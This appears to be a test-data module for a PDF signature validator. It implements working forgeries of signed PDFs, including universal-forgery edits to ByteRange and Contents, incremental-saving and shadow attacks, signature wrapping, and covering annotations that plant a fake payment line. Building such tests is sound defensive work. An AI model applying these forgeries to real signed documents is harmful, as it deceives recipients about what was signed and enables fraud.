"""Known attacks on signed PDF files, each by the name of its class; every function takes a signed file.

Sources: "1 Trillion Dollar Refund" (2019: universal forgery, incremental saving, wrapping), "Shadow Attacks"
(2021), "Breaking the Specification: PDF Certification" (2021).
"""

from __future__ import annotations

import re
from collections.abc import Callable

from signing.validate.fields import fields_of
from signing.validate.pagefinder import page_numbers
from signing.validate.syntax import Dict, HexString, Name, Ref, Stream, Value
from tests.data.pdf_updates import Updater, first_page, stream, written

Attack = Callable[[bytes], bytes]
_EVIL = b"1 g 0 0 600 850 re f 0 g BT /F1 40 Tf 60 600 Td (Chuyen 1.000.000) Tj ET"


def _font() -> Dict:
    return {"Type": Name("Font"), "Subtype": Name("Type1"), "BaseFont": Name("Helvetica")}


def _signature(updater: Updater) -> tuple[int, Dict, Dict]:
    """Return the field's number, the field, and the signature dictionary of the first signature."""
    field = next(f for f in fields_of(updater.view) if f.kind == "Sig" and f.value is not None)
    assert field.node.number is not None
    return field.node.number, dict(field.node.entries), dict(updater.view.dictionary(field.value))


def _forged(change: Callable[[Dict], None]) -> Attack:
    """Put an altered copy of the signature dictionary in the place of the signature."""

    def attack(pdf: bytes) -> bytes:
        updater = Updater(pdf)
        number, field, signature = _signature(updater)
        change(signature)
        updater.set(number, {**field, "V": updater.add(signature)})
        page = first_page(updater)
        updater.set(page, {**updater.dictionary(page), "Contents": updater.add(stream(_EVIL))})
        return updater.result()

    return attack


def _put(**entries: Value) -> Callable[[Dict], None]:
    return lambda signature: signature.update(entries)


def _drop(*keys: str) -> Callable[[Dict], None]:
    def change(signature: Dict) -> None:
        for key in keys:
            signature.pop(key, None)

    return change


def _in_place(pattern: bytes, text: bytes) -> Attack:
    """Write over bytes of the signature dictionary, in a place of the same length."""

    def attack(pdf: bytes) -> bytes:
        found = re.search(pattern, pdf)
        assert found is not None
        return (
            pdf[: found.start()]
            + text.ljust(found.end() - found.start())[: len(found[0])]
            + pdf[found.end() :]
        )

    return attack


UNIVERSAL_FORGERY: dict[str, Attack] = {
    "no byte range": _forged(_drop("ByteRange")),
    "byte range null": _forged(_put(ByteRange=None)),
    "byte range empty": _forged(_put(ByteRange=[])),
    "byte range of zeros": _forged(_put(ByteRange=[0, 0, 0, 0])),
    "byte range negative": _forged(_put(ByteRange=[0, -1, -1, 10])),
    "byte range of one part": _forged(_put(ByteRange=[0, 100])),
    "byte range of three parts": _forged(_put(ByteRange=[0, 10, 20, 10, 40, 10])),
    "byte range overlapping": _forged(_put(ByteRange=[0, 500, 400, 600])),
    "byte range beyond the end": _forged(_put(ByteRange=[0, 10, 20, 10**12])),
    "byte range a name": _forged(_put(ByteRange=Name("None"))),
    "byte range of text": _forged(_put(ByteRange=[b"0", b"1", b"2", b"3"])),
    "no contents": _forged(_drop("Contents")),
    "contents null": _forged(_put(Contents=None)),
    "contents empty": _forged(_put(Contents=b"")),
    "contents of zeros": _forged(_put(Contents=bytes(4000))),
    "contents a number": _forged(_put(Contents=1)),
    "no kind": _forged(_drop("SubFilter", "Filter")),
    "unknown kind": _forged(_put(SubFilter=Name("adbe.evil"))),
    "neither byte range nor contents": _forged(_drop("ByteRange", "Contents")),
    "empty dictionary": _forged(lambda signature: signature.clear()),
    "in place: byte range": _in_place(rb"/ByteRange ?\[[^\]]*\]", b"/ByteRanXX [0 0 0 0]"),
    "in place: contents of zeros": _in_place(rb"/Contents ?<[0-9A-Fa-f]{200}", b"/Contents <" + b"0" * 200),
    "in place: contents empty": _in_place(rb"/Contents ?<[0-9A-Fa-f]{40}", b"/Contents <>"),
}


def _page_replaced(pdf: bytes) -> bytes:
    updater = Updater(pdf)
    page = first_page(updater)
    font = updater.add(_font())
    fonts: Dict = {"Font": {"F1": font}}
    content = updater.add(stream(_EVIL))
    updater.set(page, {**updater.dictionary(page), "Contents": content, "Resources": fonts})
    return updater.result()


def _content_replaced(pdf: bytes) -> bytes:
    updater = Updater(pdf)
    contents = updater.dictionary(first_page(updater))["Contents"]
    ref = contents[0] if isinstance(contents, list) else contents
    assert isinstance(ref, Ref)
    updater.set(ref.number, stream(_EVIL))
    return updater.result()


def _without(pattern: bytes) -> Attack:
    """The update of another attack with a piece of its end cut out."""

    def attack(pdf: bytes) -> bytes:
        whole = _content_replaced(pdf)
        return whole[: len(pdf)] + re.sub(pattern, b"", whole[len(pdf) :], flags=re.DOTALL)

    return attack


def _with_copied_signature(pdf: bytes) -> bytes:
    updater = Updater(pdf)
    number, field, signature = _signature(updater)
    updater.set(number, {**field, "V": updater.add(signature)})
    page = first_page(updater)
    updater.set(page, {**updater.dictionary(page), "Contents": updater.add(stream(_EVIL))})
    return updater.result()


def _new_catalog(pdf: bytes) -> bytes:
    updater = Updater(pdf)
    updater.trailer["Root"] = updater.add(updater.dictionary(updater.root))
    return updater.result()


def _catalog_entry(key: str, value: Value) -> Attack:
    def attack(pdf: bytes) -> bytes:
        updater = Updater(pdf)
        updater.set(updater.root, {**updater.dictionary(updater.root), key: value})
        return updater.result()

    return attack


def _page_added(pdf: bytes) -> bytes:
    updater = Updater(pdf)
    pages = updater.view.root["Pages"]
    assert isinstance(pages, Ref)
    tree = updater.dictionary(pages.number)
    page: Dict = {"Type": Name("Page"), "Parent": pages, "MediaBox": [0, 0, 595, 842]}
    added = updater.add({**page, "Contents": updater.add(stream(_EVIL))})
    kids = updater.view.array(tree["Kids"])
    updater.set(pages.number, {**tree, "Kids": [*kids, added], "Count": len(kids) + 1})
    return updater.result()


def _page_tree(change: Callable[[list[Value]], list[Value]]) -> Attack:
    def attack(pdf: bytes) -> bytes:
        updater = Updater(pdf)
        pages = updater.view.root["Pages"]
        assert isinstance(pages, Ref)
        tree = updater.dictionary(pages.number)
        kids = change(list(updater.view.array(tree["Kids"])))
        updater.set(pages.number, {**tree, "Kids": kids, "Count": len(kids)})
        return updater.result()

    return attack


def _page_entry(key: str, value: Value) -> Attack:
    def attack(pdf: bytes) -> bytes:
        updater = Updater(pdf)
        page = first_page(updater)
        updater.set(page, {**updater.dictionary(page), key: value})
        return updater.result()

    return attack


def _font_swapped(pdf: bytes) -> bytes:
    """Shadow attack "replace": the letters of a signed page get other shapes."""
    updater = Updater(pdf)
    for page in page_numbers(updater.view):
        resources = updater.view.dictionary(updater.dictionary(page).get("Resources"))
        for ref in updater.view.dictionary(resources.get("Font")).values():
            if isinstance(ref, Ref):
                updater.set(ref.number, {**_font(), "Encoding": {"Differences": [49, Name("nine")]}})
                return updater.result()
    raise AssertionError("the file has no font")


def _signature_removed(pdf: bytes) -> bytes:
    """Take the newest signature's field away, and change the page, so that an older one seems last."""
    updater = Updater(pdf)
    number, field, _ = _signature(updater)
    updater.set(number, {**field, "V": {"Type": Name("Sig")}})
    return updater.result()


INCREMENTAL_SAVING: dict[str, Attack] = {
    "page replaced": _page_replaced,
    "content replaced": _content_replaced,
    "without cross-references": _without(rb"xref\n.*trailer"),
    "without trailer": _without(rb"trailer.*"),
    "without cross-references and trailer": _without(rb"xref\n.*"),
    "without the end marker": _without(rb"%%EOF\n"),
    "without startxref": _without(rb"startxref.*"),
    "with a copied signature": _with_copied_signature,
    "another catalog": _new_catalog,
    "an action on opening": _catalog_entry("OpenAction", {"S": Name("JavaScript"), "JS": b"app.alert(1)"}),
    "layers": _catalog_entry("OCProperties", {"OCGs": [], "D": {}}),
    "attachments": _catalog_entry("Names", {"EmbeddedFiles": {"Names": []}}),
    "viewer preferences": _catalog_entry("ViewerPreferences", {"Direction": Name("R2L")}),
    "page added": _page_added,
    "page shown twice": _page_tree(lambda kids: [*kids, kids[0]]),
    "page removed": _page_tree(lambda kids: kids[1:]),
    "page turned": _page_entry("Rotate", 180),
    "page cropped": _page_entry("CropBox", [0, 0, 100, 100]),
    "page with an action": _page_entry("AA", {"O": {"S": Name("JavaScript"), "JS": b"1"}}),
    "resources replaced": _page_entry("Resources", {}),
    "signature emptied": _signature_removed,
}


def _moved_back(pdf: bytes) -> bytes:
    """Shadow attack "hide and replace": cross-references lead to what lay hidden in the signed bytes."""
    updater = Updater(pdf)
    contents = updater.dictionary(first_page(updater))["Contents"]
    ref = contents[0] if isinstance(contents, list) else contents
    other = next(
        place[0]
        for number in range(1, updater.next)
        if (place := updater.view.place(number))
        and place[1] < 0
        and isinstance(ref, Ref)
        and number != ref.number
    )
    assert isinstance(ref, Ref)
    return updater.result(entries={ref.number: other})


def _hidden(pdf: bytes) -> bytes:
    """Shadow attack "hide": what covered the page is freed."""
    updater = Updater(pdf)
    contents = updater.dictionary(first_page(updater))["Contents"]
    ref = contents[0] if isinstance(contents, list) else contents
    assert isinstance(ref, Ref)
    return updater.result(freed=(ref.number,))


def _same_object_twice(pdf: bytes) -> bytes:
    updater = Updater(pdf)
    ref = updater.add(stream(b"0 g"))
    updater.set(ref.number, stream(_EVIL))
    info = updater.add({"Title": ref})
    updater.trailer["Info"] = info
    return updater.result()


def _circle(pdf: bytes) -> bytes:
    whole = _content_replaced(pdf)
    start = int(whole.rsplit(b"startxref", 1)[1].split()[0])
    return re.sub(rb"/Prev \d+", b"/Prev %d" % start, whole[len(pdf) :]).join([whole[: len(pdf)], b""])


def _two_faced(pdf: bytes) -> bytes:
    """A hybrid update: plain readers see one object, readers of streams another."""
    updater = Updater(pdf)
    page = first_page(updater)
    evil = updater.add(stream(_EVIL))
    updater.set(page, {**updater.dictionary(page), "Contents": evil})
    body, offsets = updater.body()
    place = len(pdf) + len(body)
    rows = b"\1" + offsets[page].to_bytes(4, "big") + b"\0"
    entries: Dict = {"Type": Name("XRef"), "W": [1, 4, 1], "Index": [page, 1], "Size": updater.next + 1}
    hidden = b"%d 0 obj\n" % updater.next + written(stream(rows, **entries)) + b"\nendobj\n"
    old = updater.view.place(page)
    assert old is not None
    start = place + len(hidden)
    table = b"xref\n%d 1\n%010d 00000 n \n%d 1\n%010d 00000 n \n" % (
        page,
        old[0],
        evil.number,
        offsets[evil.number],
    )
    trailer: Dict = {
        "Size": updater.next + 1,
        "Prev": updater.file.chain[0].offset,
        "XRefStm": place,
        **updater.trailer,
    }
    end = b"trailer\n" + written(trailer) + b"\nstartxref\n%d\n%%%%EOF\n" % start
    return pdf + body + hidden + table + end


def _dangling(pdf: bytes) -> bytes:
    """Redefine, in an update, the generation of an object."""
    updater = Updater(pdf)
    contents = updater.dictionary(first_page(updater))["Contents"]
    ref = contents[0] if isinstance(contents, list) else contents
    assert isinstance(ref, Ref)
    updater.set(ref.number, stream(_EVIL))
    whole = updater.result()
    return whole[: len(pdf)] + whole[len(pdf) :].replace(b" 00000 n", b" 00007 n").replace(
        b" 0 obj", b" 7 obj"
    )


SHADOW_AND_STRUCTURE: dict[str, Attack] = {
    "hide: content freed": _hidden,
    "hide and replace: cross-references point back": _moved_back,
    "replace: a font swapped": _font_swapped,
    "an object defined twice": _same_object_twice,
    "chain of revisions in a circle": _circle,
    "hybrid update with two faces": _two_faced,
    "another generation": _dangling,
    "bytes after the end": lambda pdf: pdf + b"1 0 obj\n<</Type/Catalog>>\nendobj\n",
    "a page of HTML after the end": lambda pdf: pdf + b"<html><body>x</body></html>",
    "a second end": lambda pdf: pdf + b"\nstartxref\n0\n%%EOF\n",
    "a ZIP after the end": lambda pdf: pdf + b"PK\x03\x04" + bytes(40),
    "bytes before the header": lambda pdf: b"MZ" + pdf,
    "another header": lambda pdf: b"%PDF-9.9" + pdf[8:],
    "no header": lambda pdf: b"%PPF-1.7" + pdf[8:],
    "end cut off": lambda pdf: pdf[:-20],
    "a comment that hides an object": lambda pdf: pdf + b"%1 0 obj<</Type/Catalog>>endobj\n",
}


def wrapped(pdf: bytes) -> bytes:
    """Signature wrapping: the second signed part moves back, the room between holds a new document.

    The signed parts keep every byte: a copy of the signature dictionary in the room between names the new
    byte range, and the cross-references that the (signed) end names by their offset lie in that room too.
    """
    updater = Updater(pdf)
    number, _, signature = _signature(updater)
    field = next(f for f in fields_of(updater.view) if f.node.number == number)
    assert isinstance(field.value, Ref)
    ranges = signature["ByteRange"]
    assert isinstance(ranges, list)
    first, second, length = (int(v) for v in ranges[1:] if isinstance(v, int))
    contents = signature["Contents"]
    assert isinstance(contents, HexString)
    start = updater.file.chain[0].offset
    shift = 60_000 + start - second
    page = first_page(updater)
    copy: Dict = {**signature, "ByteRange": [0, first, second + shift, length]}
    evil: Dict = {**updater.dictionary(page), "Contents": Ref(updater.next, 0)}
    planted: dict[int, Value] = {field.value.number: copy, page: evil, updater.next: stream(_EVIL)}
    numbers = [n for n in range(1, updater.next + 1) if n in planted or _lies_plain(updater, n)]
    trailer: Dict = {"Size": updater.next + 1, **updater.trailer}
    end = b"trailer\n" + written(trailer) + b"\n"
    at = start + len(b"xref\n") + sum(len(b"%d 1\n" % n) + 20 for n in numbers) + len(end)
    objects, offsets = bytearray(), dict[int, int]()
    for planted_number, value in planted.items():
        offsets[planted_number] = at + len(objects)
        objects += b"%d 0 obj\n" % planted_number + written(value) + b"\nendobj\n"
    table = [b"xref\n"]
    for known in numbers:
        place = updater.view.place(known)
        moved = 0 if place is None else place[0] if place[0] < first else place[0] + shift
        table.append(b"%d 1\n%010d 00000 n \n" % (known, offsets.get(known, moved)))
    room = b" " * (start - second) + b"".join(table) + end + bytes(objects)
    return pdf[:second] + room.ljust(shift) + pdf[second : second + length]


def _lies_plain(updater: Updater, number: int) -> bool:
    place = updater.view.place(number)
    return place is not None and place[1] < 0


def field_of(updater: Updater, name: str) -> tuple[int, Dict]:
    """Return a field's number and a copy of its dictionary."""
    field = next(f for f in fields_of(updater.view) if f.name == name)
    assert field.node.number is not None
    return field.node.number, dict(field.node.entries)


def annotated(pdf: bytes, annotation: Dict, drawing: Stream | None = None) -> bytes:
    """Add an annotation to the first page; honest or evil."""
    updater = Updater(pdf)
    page = first_page(updater)
    entries: Dict = {
        "Type": Name("Annot"),
        "Rect": [100, 600, 400, 700],
        "F": 4,
        "P": Ref(page, 0),
        **annotation,
    }
    if drawing is not None:
        entries["AP"] = {"N": updater.add(drawing)}
    added = updater.add(entries)
    known = updater.dictionary(page)
    updater.set(page, {**known, "Annots": [*updater.view.array(known.get("Annots")), added]})
    return updater.result()


def box(content: bytes, **resources: Value) -> Stream:
    """Return an appearance of 300 by 100 units."""
    entries: Dict = {"Type": Name("XObject"), "Subtype": Name("Form"), "BBox": [0, 0, 300, 100]}
    return Stream({**entries, "Resources": dict(resources)}, content)


COVER = box(b"1 g 0 0 300 100 re f")
EVIL_ANNOTATIONS: dict[str, Attack] = {
    "text box": lambda pdf: annotated(
        pdf, {"Subtype": Name("FreeText"), "Contents": b"1.000.000", "DA": b"/Helv 20 Tf"}
    ),
    "stamp": lambda pdf: annotated(pdf, {"Subtype": Name("Stamp")}, COVER),
    "redaction": lambda pdf: annotated(pdf, {"Subtype": Name("Redact"), "IC": [1, 1, 1]}, COVER),
    "filled square": lambda pdf: annotated(pdf, {"Subtype": Name("Square"), "IC": [1, 1, 1]}),
    "square drawn over": lambda pdf: annotated(pdf, {"Subtype": Name("Square")}, COVER),
    "broad line": lambda pdf: annotated(
        pdf, {"Subtype": Name("Line"), "BS": {"W": 60}, "L": [100, 650, 400, 650]}
    ),
    "white ink": lambda pdf: annotated(pdf, {"Subtype": Name("Ink"), "C": [1, 1, 1], "BS": {"W": 4}}),
    "note as large as the page": lambda pdf: annotated(pdf, {"Subtype": Name("Text")}, COVER),
    "highlight that covers": lambda pdf: annotated(pdf, {"Subtype": Name("Highlight")}, COVER),
    "underline that writes": lambda pdf: annotated(
        pdf,
        {"Subtype": Name("Underline")},
        box(b"BT /F 20 Tf 10 10 Td (1.000.000) Tj ET", Font={"F": dict(_font())}),
    ),
    "link that acts": lambda pdf: annotated(
        pdf, {"Subtype": Name("Link"), "A": {"S": Name("URI"), "URI": b"http://x"}}
    ),
    "file attached": lambda pdf: annotated(pdf, {"Subtype": Name("FileAttachment"), "FS": {"F": b"x"}}),
    "unknown kind": lambda pdf: annotated(pdf, {"Subtype": Name("Watermark")}, COVER),
    "pop-up that draws": lambda pdf: annotated(pdf, {"Subtype": Name("Popup")}, COVER),
}
QUADS: Value = [100, 700, 400, 700, 100, 600, 400, 600]
HONEST_ANNOTATIONS: dict[str, Attack] = {
    "note": lambda pdf: annotated(
        pdf, {"Subtype": Name("Text"), "Rect": [500, 700, 520, 720], "Contents": b"xem lai"}
    ),
    "highlight": lambda pdf: annotated(
        pdf, {"Subtype": Name("Highlight"), "QuadPoints": QUADS, "C": [1, 1, 0], "Contents": b"chu y"}
    ),
    "highlight that multiplies": lambda pdf: annotated(
        pdf,
        {"Subtype": Name("Highlight"), "QuadPoints": QUADS},
        box(b"/G gs 1 1 0 rg 0 0 300 100 re f", ExtGState={"G": {"BM": Name("Multiply")}}),
    ),
    "underline": lambda pdf: annotated(
        pdf, {"Subtype": Name("Underline"), "QuadPoints": QUADS}, box(b"1 0 0 RG 1 w 0 2 m 300 2 l S")
    ),
    "square": lambda pdf: annotated(pdf, {"Subtype": Name("Square"), "C": [1, 0, 0], "BS": {"W": 2}}),
}


def signature_field(updater: Updater, *, rectangle: Value, drawing: Stream | None, value: Value) -> None:
    """Add a signature field to the form and to the first page."""
    page = first_page(updater)
    entries: Dict = {
        "Type": Name("Annot"),
        "Subtype": Name("Widget"),
        "FT": Name("Sig"),
        "T": b"evil",
        "F": 132,
    }
    entries |= {"Rect": rectangle, "P": Ref(page, 0)}
    if drawing is not None:
        entries["AP"] = {"N": updater.add(drawing)}
    if value is not None:
        entries["V"] = value
    added = updater.add(entries)
    known = updater.dictionary(page)
    updater.set(page, {**known, "Annots": [*updater.view.array(known.get("Annots")), added]})
    root = updater.view.root
    form = root["AcroForm"]
    fields = {**updater.view.dictionary(form)}
    fields["Fields"] = [*updater.view.array(fields.get("Fields")), added]
    if isinstance(form, Ref):
        updater.set(form.number, fields)
    else:
        updater.set(updater.root, {**root, "AcroForm": fields})


def overlay_by_signature(pdf: bytes) -> bytes:
    """Sneaky signature: a new signature field whose appearance covers the page, copied signature inside."""
    updater = Updater(pdf)
    _, _, signature = _signature(updater)
    signature_field(updater, rectangle=[0, 0, 600, 850], drawing=COVER, value=updater.add(signature))
    return updater.result()


def overlay_by_empty_field(pdf: bytes) -> bytes:
    """Sneaky signature without a signature: an empty field that shows something."""
    updater = Updater(pdf)
    signature_field(updater, rectangle=[0, 0, 600, 850], drawing=COVER, value=None)
    return updater.result()
